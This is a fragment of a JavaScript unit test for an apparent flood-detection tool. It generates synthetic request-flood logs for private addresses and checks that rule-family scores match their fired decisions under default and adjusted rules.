    ...flood('10.2.0.5', 600, true, false, 30000),
    ...flood('10.2.0.6', 2600, false, true, 9000),
    ...flood('10.2.0.7', 4999, false, false, 9000),
    ...flood('10.2.0.8', 5200, false, false, 9000),
  ].sort((a, b) => a.localeCompare(b));
  for (const rules of [undefined, resolveRules({ rules: { 'flood.requests': { queuedFactor: 2 } } })]) {
    const d = detect(lines, rules ? { rules } : {});
    let fired = 0;
    for (const [key, st] of d.clients) {
      for (const f of d.families) {
        const expected = f.decide(d.table, st.slot).reduce((s, x) => s + (x.fired ? d.rules.rules[x.id].score : 0), 0);
        if (expected > 0) fired++;
        assert.equal(f.score(d.table, st.slot), expected, `${key} ${f.name}`);
      }
    }
    assert.ok(fired > 20, `${fired} family decisions fired`);
  }
});
